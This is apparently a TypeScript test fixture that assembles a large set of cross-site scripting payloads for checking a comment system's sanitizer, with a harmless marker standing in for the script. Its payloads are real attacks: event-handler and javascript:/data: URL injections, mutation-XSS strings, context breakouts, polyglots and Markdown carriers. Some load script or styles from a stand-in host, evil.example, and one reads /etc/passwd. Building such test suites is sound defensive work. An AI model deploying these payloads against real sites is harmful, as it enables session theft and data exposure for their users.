/**
 * What people have got past other comment systems, by kind: every way of naming a handler, a scheme, a tag, a
 * broken tag, an encoding, a context to break out of, and every Markdown that carries one. `X` is the script;
 * it leaves a mark that a test can see.
 */

const X = 'self.__xss=1'

const handlers = [
  ...['onload', 'onerror', 'onclick', 'onfocus', 'onblur', 'onmouseover', 'onmouseenter', 'onpointerover'],
  ...[
    'onpointerrawupdate',
    'onanimationstart',
    'onanimationend',
    'ontransitionend',
    'ontoggle',
    'onbeforetoggle',
  ],
  ...[
    'onstart',
    'onfinish',
    'onbounce',
    'oncanplay',
    'onloadstart',
    'onloadeddata',
    'onplay',
    'ontimeupdate',
  ],
  ...['onbegin', 'onend', 'onrepeat', 'onscroll', 'onscrollend', 'onscrollsnapchange', 'onwheel', 'ondrag'],
  ...[
    'onpageshow',
    'onhashchange',
    'onpopstate',
    'onmessage',
    'onbeforeprint',
    'onunload',
    'onresize',
    'onsearch',
  ],
  ...[
    'oncontentvisibilityautostatechange',
    'oninput',
    'oninvalid',
    'onsubmit',
    'onreset',
    'onformdata',
    'oncopy',
  ],
]

const tags = [
  ...[
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'select autofocus',
  ],
  ...['marquee', 'object data=x', 'embed src=x', 'iframe src=x', 'style', 'math', 'form', 'button autofocus'],
  ...[
    'a href=# autofocus tabindex=1',
    'textarea autofocus',
    'xss contenteditable autofocus',
    'dialog open popover',
  ],
]

const schemes = [
  ...[`javascript:${X}`, `JaVaScRiPt:${X}`, ` javascript:${X}`, `java\tscript:${X}`, `java%0ascript:${X}`],
  ...[`javascript&colon;${X}`, `&#106;avascript:${X}`, `&#x6A&#x61vascript:${X}`, `\u0001javascript:${X}`],
  ...[
    `javascript://%0a${X}`,
    `javascript:javascript:${X}`,
    `vbscript:msgbox(1)`,
    `livescript:${X}`,
    `mocha:${X}`,
  ],
  ...[
    `data:text/html,<script>${X}</script>`,
    `data:text/html;base64,PHNjcmlwdD5zZWxmLl9feHNzPTE8L3NjcmlwdD4=`,
  ],
  ...[`data:image/svg+xml,<svg onload=${X}>`, `blob:https://a.example/x`, `filesystem:https://a.example/x`],
  ...[
    `view-source:javascript:${X}`,
    `feed:javascript:${X}`,
    `jar:javascript:${X}`,
    `file:///etc/passwd`,
    `about:blank`,
  ],
]

const carriers = (url: string) => [
  `[x](${url})`,
  `[x](<${url}>)`,
  `<${url}>`,
  `![x](${url})`,
  `[x]: ${url}\n\n[x]`,
  `<a href="${url}">x</a>`,
  `<iframe src="${url}"></iframe>`,
  `<form action="${url}"><button>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
]

const tagged = tags.map((tag, index) => `<${tag} ${handlers[index % handlers.length]}=${X}>`)
const handled = handlers.map((handler, index) => `<${tags[index % tags.length]} ${handler}="${X}">`)

const outright = [
  `<script>${X}</script>`,
  `<ScRiPt>${X}</sCrIpT>`,
  `<script\n>${X}</script\n>`,
  `<script/x>${X}</script>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<<script>${X}//<</script>`,
  `<script>${X}`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${X}</script>`,
  `<script type=speculationrules>{"prerender":[{"urls":["https://evil.example/"]}]}</script>`,
  `<script type=importmap>{"imports":{"/assets/":"https://evil.example/"}}</script>`,
  `<base href=https://evil.example/>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import 'https://evil.example/x.css'; *{display:none}</style>`,
  `<template><script>${X}</script></template>`,
  `<template shadowrootmode=open><script>${X}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${X}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${X} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${X}>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${X}</script>"></iframe></foreignObject></svg>`,
  `<object data="data:text/html,<script>${X}</script>"></object>`,
  `<isindex action=javascript:${X} type=image>`,
  `<table background=javascript:${X}>`,
  `<div style="background:url(javascript:${X});behavior:url(x.htc)">`,
  `<img src="x" style="position:fixed;inset:0;z-index:9999">`,
  `<form id=x><input name=action><input name=submit></form>`,
  `<a id=self name=__xss href=cid:x>`,
  `<comment-thread thread="teams/fixes/x"><img src=x onerror=${X}></comment-thread>`,
  `<giscus-comments data-src="javascript:${X}"><button>x</button></giscus-comments>`,
]

const breakouts = [
  `"><img src=x onerror=${X}>`,
  `'><img src=x onerror=${X}>`,
  `" autofocus onfocus=${X} x="`,
  `' onmouseover='${X}`,
  `\` onerror=${X} \``,
  `</textarea><script>${X}</script>`,
  `</title><script>${X}</script>`,
  `</style><script>${X}</script>`,
  `</bdi></p></li></ol></main></body><script>${X}</script>`,
  `--><script>${X}</script><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${X}</script><![CDATA[`,
  `?><?xml-stylesheet href="javascript:${X}"?>`,
  `<!ENTITY x SYSTEM "file:///etc/passwd"> &x;`,
  `&lt;script&gt;${X}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${X}&amp;gt;`,
  `%3Cscript%3E${X}%3C/script%3E`,
  `\\u003cscript\\u003e${X}\\u003c/script\\u003e`,
  `\uFF1Cscript\uFF1E${X}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${X}+ADw-/script+AD4-`,
  `\u003Cscript\u2028>${X}</script>`,
  `{{constructor.constructor('${X}')()}}`,
  `\${${X}}`,
  `<%= ${X} %>`,
  `#{${X}}`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${X}//'>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${X} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${X}//>`,
]

const markdown = [
  `\`\`\`html\n<script>${X}</script>\n\`\`\``,
  `\`\`\`" onload="${X}\n<img src=x onerror=${X}>\n\`\`\``,
  `\`<img src=x onerror=${X}>\``,
  `**<img src=x onerror=${X}>**`,
  `- <svg onload=${X}>\n- [x](javascript:${X})`,
  `[<img src=x onerror=${X}>](https://a.example)`,
  `[x](https://a.example "onmouseover=${X}")`,
  `[x](https://a.example" onmouseover="${X})`,
  `[x](https://a.example'onclick='${X})`,
  `https://a.example/"onmouseover="${X}`,
  `https://a.example/<script>${X}</script>`,
  `<https://a.example/" onclick="${X}>`,
  `[a](javascript:${X}//https://a.example)`,
  `[\`](\`javascript:${X})`,
  `[x](javas\ncript:${X})`,
  `![x" onerror="${X}](x)`,
  `[x]( \u0000javascript:${X})`.replace('\u0000', '\u00a0'),
  `<!-- \n[x](javascript:${X}) -->`,
]

/** All of them. */
export const payloads: readonly string[] = [
  ...outright,
  ...breakouts,
  ...markdown,
  ...tagged,
  ...handled,
  ...schemes.flatMap((url) => carriers(url)),
]
